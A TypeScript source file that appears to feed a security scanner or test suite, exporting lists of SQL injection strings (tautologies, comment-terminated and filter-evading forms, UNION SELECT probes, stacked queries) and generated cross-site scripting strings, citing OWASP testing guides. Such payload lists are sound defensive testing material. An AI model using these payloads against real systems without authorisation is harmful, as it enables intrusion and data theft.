/**
 * Values that change a query into which they are pasted, after a harmless value. None waits and none destroys. See the
 * OWASP Web Security Testing Guide, WSTG-INPV-05.
 */
export const sqlPayloads: readonly string[] = [
  // A quote alone: a syntax error, where it is pasted.
  "'",
  '"',
  // Tautologies in strings and in numbers, with and without brackets.
  "' OR '1'='1",
  '" OR "1"="1',
  "') OR ('1'='1",
  "%' OR '1'='1",
  ' OR 1=1',
  ') OR (1=1',
  // With the rest of the query commented out.
  "' OR 1=1 -- ",
  "' OR 1=1 #",
  "' OR 1=1 /*",
  '" OR 1=1 -- ',
  "') OR 1=1 -- ",
  ' OR 1=1 -- ',
  // For those who filter words or blanks, or escape with a backslash.
  "'/**/oR/**/1=1/**/--/**/",
  "'||1=1 -- ",
  "\\' OR 1=1 -- ",
  // Rows from elsewhere.
  ...[1, 2, 3, 4, 5, 6, 7, 8].flatMap(columns => {
    const nulls = Array.from({ length: columns }, () => 'NULL').join(',');
    return [`' UNION SELECT ${nulls} -- `, ` UNION SELECT ${nulls} -- `];
  }),
  // Another statement.
  "'; SELECT 1; -- ",
  '; SELECT 1; -- ',
];

/**
 * Strings that become elements, attributes or URLs with code where they are pasted into HTML. See the OWASP XSS Filter
 * Evasion Cheat Sheet.
 * @param mark a word that is code in all of them
 */
export const xssPayloads = (mark: string): readonly string[] => [
  `<script>${mark}()</script>`,
  `<ScRiPt >${mark}()</sCrIpT>`,
  `<scr<script>ipt>${mark}()</scr</script>ipt>`,
  `<img src=x onerror=${mark}()>`,
  `<svg/onload=${mark}()>`,
  `<${mark}-element>`,
  `"><img src=x onerror=${mark}()>`,
  `'><img src=x onerror=${mark}()>`,
  `" autofocus onfocus=${mark}() x="`,
  `' autofocus onfocus=${mark}() x='`,
  ` autofocus onfocus=${mark}() `,
  `</title><script>${mark}()</script>`,
  `</textarea><script>${mark}()</script>`,
  `</script><script>${mark}()</script>`,
  `</style><script>${mark}()</script>`,
  `--><script>${mark}()</script>`,
  `<a href="javascript:${mark}()">x</a>`,
  `<iframe srcdoc="<script>${mark}()</script>">`,
  `javascript:${mark}()`,
  `JaVaScRiPt:${mark}()`,
  `java\tscript:${mark}()`,
];
